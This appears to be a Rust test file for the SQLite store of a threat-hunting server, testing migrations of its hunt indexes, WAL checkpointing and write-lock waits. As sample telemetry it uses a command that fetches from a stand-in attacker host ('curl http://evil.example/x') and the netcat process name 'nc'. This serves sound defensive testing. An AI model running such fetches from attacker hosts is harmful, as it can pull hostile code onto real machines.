//! The store contract on SQLite.

use super::SqliteStore;
use crate::store::contract_tests::{Backend, store_contract};

/// A fresh data directory per test.
struct Sqlite(tempfile::TempDir);

impl Sqlite {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }
}

impl Backend for Sqlite {
    type S = SqliteStore;

    async fn open(&self) -> SqliteStore {
        SqliteStore::open(self.0.path()).await.unwrap()
    }

    async fn close(&self, store: SqliteStore) {
        store.close().await;
    }

    async fn result_parts_held(&self, store: &SqliteStore) -> i64 {
        sqlx::query_scalar("SELECT COUNT(*) FROM result_parts")
            .fetch_one(&store.pool)
            .await
            .unwrap()
    }
}

store_contract!(Sqlite::new());

/// Adds event `e<seq>` of endpoint `s1` at time `seq` to the log, as an older release stored it.
async fn add_event(pool: &sqlx::SqlitePool, seq: i64, body: &str) {
    sqlx::query(
        "INSERT INTO events (seq, uid, sensor_id, class_uid, time, body) VALUES (?, ?, 's1', 1007, ?, ?)",
    )
    .bind(seq)
    .bind(format!("e{seq}"))
    .bind(seq)
    .bind(body)
    .execute(pool)
    .await
    .unwrap();
}

/// A database in `dir` migrated up to, not including, `version`: a store as an older release
/// left it.
async fn migrated_before(dir: &std::path::Path, version: i64) -> sqlx::SqlitePool {
    use std::str::FromStr;

    let opts = sqlx::sqlite::SqliteConnectOptions::from_str("sqlite://")
        .unwrap()
        .filename(dir.join("server.db"))
        .create_if_missing(true);
    let pool = sqlx::sqlite::SqlitePoolOptions::new()
        .max_connections(1)
        .connect_with(opts)
        .await
        .unwrap();
    let mut before = sqlx::migrate!("migrations/sqlite");
    before.migrations = before
        .migrations
        .iter()
        .filter(|m| m.version < version)
        .cloned()
        .collect::<Vec<_>>()
        .into();
    before.run(&pool).await.unwrap();
    pool
}

/// A store hunted before version 14 (every event's command line in one trigram table) keeps
/// its command-line hunts: the migration moves each distinct text once and points the events
/// at it.
#[tokio::test]
async fn command_lines_indexed_before_version_14_are_still_found() {
    use crate::store::{HuntQuery, Store};

    let dir = tempfile::tempdir().unwrap();
    {
        let pool = migrated_before(dir.path(), 14).await;
        for (seq, cmd) in [
            (1, "/usr/bin/curl http://evil.example/x"),
            (2, "/bin/ls -la"),
            (3, "/usr/bin/curl http://evil.example/x"),
        ] {
            let body = format!(
                r#"{{"class_uid":1007,"activity_id":1,"time":{seq},"metadata":{{"uid":"e{seq}"}},"process":{{"cmd_line":"{cmd}"}}}}"#
            );
            add_event(&pool, seq, &body).await;
            sqlx::query("INSERT INTO hunt_cmdlines (rowid, cmd_line) VALUES (?, ?)")
                .bind(seq)
                .bind(cmd)
                .execute(&pool)
                .await
                .unwrap();
        }
        pool.close().await;
    }
    let store = SqliteStore::open(dir.path()).await.unwrap();
    let texts: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM hunt_cmdline_texts")
        .fetch_one(&store.pool)
        .await
        .unwrap();
    assert_eq!(texts, 2, "each distinct command line is kept once");
    let hunt = |cmd: &str| HuntQuery {
        terms: Vec::new(),
        cmd_line: Some(cmd.to_owned()),
        since: None,
        until: None,
        limit: 10,
    };
    let uids = |hits: Vec<(String, serde_json::Value)>| -> Vec<String> {
        hits.iter()
            .map(|(_, e)| e["metadata"]["uid"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(
        uids(store.hunt(&hunt("evil.exam")).await.unwrap()),
        ["e3", "e1"]
    );
    assert_eq!(uids(store.hunt(&hunt("ls -l")).await.unwrap()), ["e2"]);
    // New events index onto the migrated texts.
    store
        .index_hunt(
            "hunt",
            4,
            &[],
            &[(4, "/usr/bin/curl http://evil.example/x".to_owned())],
        )
        .await
        .unwrap();
    let texts: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM hunt_cmdline_texts")
        .fetch_one(&store.pool)
        .await
        .unwrap();
    assert_eq!(texts, 2);
    store.close().await;
}

/// Commits never checkpoint the WAL themselves (`wal_autocheckpoint = 0`); the store's own
/// task copies it into the database file, so the file fills while events keep arriving, and
/// it stops with the store.
#[tokio::test]
async fn the_wal_is_checkpointed_off_the_write_path() {
    use std::time::{Duration, Instant};

    use serde_json::json;
    use vigil_ocsf::Event;

    use crate::store::Store;

    let dir = tempfile::tempdir().unwrap();
    let store = SqliteStore::open(dir.path()).await.unwrap();
    let auto: i64 = sqlx::query_scalar("PRAGMA wal_autocheckpoint")
        .fetch_one(&store.pool)
        .await
        .unwrap();
    assert_eq!(auto, 0, "no connection checkpoints on commit");
    let db_size = || {
        std::fs::metadata(dir.path().join("server.db"))
            .unwrap()
            .len()
    };
    let before = db_size();
    // About 4 MiB of events, well past what fits in the database file as migrated.
    let pad = "x".repeat(2_000);
    for batch in 0..20 {
        let events: Vec<Event> = (0..100)
            .map(|i| {
                Event::from_value(json!({"class_uid": 1007, "time": 1, "activity_id": 1,
                    "metadata": {"uid": format!("e-{batch}-{i}")},
                    "process": {"cmd_line": pad}}))
                .unwrap()
            })
            .collect();
        store.insert_events("s1", &events).await.unwrap();
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    while db_size() < before + 4_000_000 {
        assert!(
            Instant::now() < deadline,
            "the database file never received the WAL's pages ({} bytes)",
            db_size()
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    store.close().await;
}

/// A store indexed before version 15 (terms in a row table, with their endpoint) keeps its
/// hunts: the migration moves every term into the clustered table, once.
#[tokio::test]
async fn terms_indexed_before_version_15_are_still_found() {
    use crate::store::{HuntQuery, Store};

    let dir = tempfile::tempdir().unwrap();
    {
        let pool = migrated_before(dir.path(), 15).await;
        for seq in 1..=3 {
            let body = format!(
                r#"{{"class_uid":1007,"activity_id":1,"time":{seq},"metadata":{{"uid":"e{seq}"}},"process":{{"file":{{"name":"nc"}}}}}}"#
            );
            add_event(&pool, seq, &body).await;
            sqlx::query(
                "INSERT INTO hunt_terms (kind, value, seq, sensor_id, time)
                 VALUES ('name', 'nc', ?, 's1', ?)",
            )
            .bind(seq)
            .bind(seq)
            .execute(&pool)
            .await
            .unwrap();
        }
        pool.close().await;
    }
    let store = SqliteStore::open(dir.path()).await.unwrap();
    let hunt = HuntQuery {
        terms: vec![("name".to_owned(), "nc".to_owned())],
        cmd_line: None,
        since: None,
        until: None,
        limit: 10,
    };
    let uids = |hits: Vec<(String, serde_json::Value)>| -> Vec<String> {
        hits.iter()
            .map(|(_, e)| e["metadata"]["uid"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(uids(store.hunt(&hunt).await.unwrap()), ["e3", "e2", "e1"]);
    // A term indexed again (a cursor that did not advance) is kept once.
    let again = crate::store::HuntTerm {
        kind: "name",
        value: "nc".to_owned(),
        seq: 3,
        sensor_id: "s1".to_owned(),
        time: 3,
    };
    store.index_hunt("hunt", 3, &[again], &[]).await.unwrap();
    assert_eq!(uids(store.hunt(&hunt).await.unwrap()), ["e3", "e2", "e1"]);
    store.close().await;
}

/// While another connection holds the write lock, a group of events waits for it (in short
/// steps, not SQLite's long sleeps) and is stored once the lock is released; it is not
/// refused as busy.
#[tokio::test]
async fn a_group_waits_for_another_writer_and_then_commits() {
    use std::time::Duration;

    use serde_json::json;
    use vigil_ocsf::Event;

    use crate::store::Store;

    let dir = tempfile::tempdir().unwrap();
    let store = SqliteStore::open(dir.path()).await.unwrap();
    let mut other = store.write_tx().await.unwrap();
    sqlx::query("INSERT INTO cursors (name, seq) VALUES ('held', 1)")
        .execute(&mut *other)
        .await
        .unwrap();
    let events: Vec<Event> = (0..3)
        .map(|i| {
            Event::from_value(json!({"class_uid": 1007, "time": 1, "activity_id": 1,
                "metadata": {"uid": format!("w-{i}")}}))
            .unwrap()
        })
        .collect();
    let writer = store.clone();
    let insert = tokio::spawn(async move { writer.insert_events("s1", &events).await });
    // It cannot commit while the lock is held.
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(
        !insert.is_finished(),
        "the group committed under another writer's lock"
    );
    other.commit().await.unwrap();
    let out = insert.await.unwrap().unwrap();
    assert_eq!(out.stored, 3);
    store.close().await;
}
